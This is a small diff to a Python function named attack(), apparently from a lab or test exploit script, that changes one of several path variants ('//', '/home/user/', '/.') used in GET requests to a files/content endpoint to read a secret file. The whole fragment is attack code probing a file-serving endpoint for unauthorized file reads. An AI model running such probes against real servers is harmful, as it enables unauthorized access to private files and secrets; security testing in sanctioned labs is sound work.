@@ -4,7 +4,7 @@
 # plain: naive
 
 def attack():
-    for path in (secret_path, "//" + secret_path, "/lab/" + secret_path, "/." + secret_path):
+    for path in (secret_path, "//" + secret_path, "/home/user/" + secret_path, "/." + secret_path):
         ask("GET", f"{here}/files/content?path={quote(path)}")
 
 
